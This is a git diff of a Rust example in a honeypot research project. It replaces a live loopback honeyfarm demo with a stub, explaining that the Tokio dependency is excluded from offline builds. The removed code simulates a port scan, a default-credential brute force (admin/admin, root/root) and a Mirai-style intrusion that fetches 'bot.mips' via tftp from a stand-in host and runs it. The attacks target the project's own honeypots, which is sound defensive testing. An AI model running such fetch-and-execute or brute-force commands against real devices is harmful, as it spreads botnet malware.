@@ -1,84 +1,22 @@
 //! Run a real mini honeyfarm on loopback TCP and attack it.
 //!
-//! Starts three live honeypots (each with an SSH-flavoured and a Telnet
-//! listener), drives scan / scout / intrusion clients against them over real
-//! sockets, then prints the collected Cowrie-style JSON events and the
-//! classified session categories.
+//! The implementation lives in the `hf-wire` crate, which needs Tokio.
+//! That crate is parked while builds run offline — the build environment
+//! has no crates.io access and Tokio is too large to vendor as a subset
+//! (see crates/wire/Cargo.toml for how to restore it). This stub keeps the
+//! example target compiling so `cargo test` / `cargo build --examples`
+//! stay green; the original loopback-attack walkthrough is preserved in
+//! git history and in crates/wire's own sources.
 //!
 //! ```sh
 //! cargo run --release --example live_farm
 //! ```
 
-use honeyfarm::core::classify;
-use honeyfarm::honeypot::EventLog;
-use honeyfarm::proto::Protocol;
-use honeyfarm::wire::{AttackClient, AttackScript, LiveFarm, LiveFarmConfig};
-
-#[tokio::main(flavor = "current_thread")]
-async fn main() {
-    let farm = LiveFarm::start(LiveFarmConfig::default())
-        .await
-        .expect("start mini-farm");
-    println!("live mini-farm up:");
-    for n in &farm.nodes {
-        println!("  node {}: ssh {} telnet {}", n.id, n.ssh, n.telnet);
-    }
-
-    // 1. A port scan against every node.
-    for n in &farm.nodes {
-        AttackClient::run(n.telnet, &AttackScript::scan(Protocol::Telnet))
-            .await
-            .expect("scan");
-    }
-    // 2. A brute-force run against node 0.
-    AttackClient::run(
-        farm.nodes[0].ssh,
-        &AttackScript::scout(
-            Protocol::Ssh,
-            &[("admin", "admin"), ("root", "root"), ("nproc", "1234")],
-        ),
-    )
-    .await
-    .expect("scout");
-    // 3. A Mirai-flavoured intrusion against node 1, over Telnet.
-    let transcript = AttackClient::run(
-        farm.nodes[1].telnet,
-        &AttackScript::intrusion(
-            Protocol::Telnet,
-            "1234",
-            &[
-                "cat /proc/cpuinfo | grep model",
-                "cd /tmp; tftp -g -r bot.mips 198.51.100.7; chmod 777 bot.mips",
-                "./bot.mips",
-            ],
-        ),
-    )
-    .await
-    .expect("intrusion");
-    println!("\n--- intruder's view (telnet transcript, node 1) ---");
-    println!("{transcript}");
-
-    // Let the collector drain, then inspect what the farm recorded.
-    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
-    let records = farm.shutdown();
-    println!("--- collector: {} sessions captured ---", records.len());
-    for rec in &records {
-        // Classify through the same pipeline the simulator output uses.
-        let mut store = honeyfarm::farm::SessionStore::new();
-        store.ingest(rec, None);
-        let category = classify(&store.view(0));
-        println!(
-            "\n[{}] {}:{} → honeypot {} ({} logins, {} cmds, {} hashes)",
-            category,
-            rec.client_ip,
-            rec.client_port,
-            rec.honeypot,
-            rec.logins.len(),
-            rec.commands.len(),
-            rec.file_hashes.len() + rec.download_hashes.len(),
-        );
-        for line in EventLog::render(rec) {
-            println!("  {line}");
-        }
-    }
+fn main() {
+    eprintln!(
+        "live_farm is unavailable in this build: the hf-wire crate (live \
+         Tokio TCP front-end) is excluded from offline builds. Restore it in \
+         the root Cargo.toml on a machine with crates.io access, then re-run."
+    );
+    std::process::exit(1)
 }
